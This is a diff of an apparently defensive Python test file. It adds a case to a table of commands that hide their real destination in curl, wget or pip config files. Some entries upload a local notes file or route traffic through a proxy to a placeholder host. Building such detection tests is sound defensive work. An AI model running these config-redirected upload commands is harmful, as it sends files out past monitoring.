@@ -46,6 +46,7 @@ GIT_URL = '[remote "origin"]\n\turl = http://127.0.0.1:8000/kettle.git\n'
 CONFIGURED = {
     "curl-K": ("curl -s -m 5 -K ci/upload.cfg", {"ci/upload.cfg": f'data-binary = "@notes.txt"\nurl = "{OTHER}"\n'}),
     "curl-config-eq": ("curl -s --config=ci/upload.cfg", {"ci/upload.cfg": f"url = {OTHER}\n"}),
+    "curl-joined-sK": ("curl -sK ci/upload.cfg", {"ci/upload.cfg": f"url = {OTHER}\n"}),
     "curl-home": ("CURL_HOME=ci curl -s -d x http://127.0.0.1:8000/inbox", {"ci/.curlrc": f'proxy = "{OTHER}"\n'}),
     "wget-config": ("wget -q --config=ci/wgetrc http://127.0.0.1:8000/inbox", {"ci/wgetrc": f"http_proxy = {OTHER}\n"}),
     "pip-r": ("pip download -q --no-deps -r requirements.txt -d wheels",
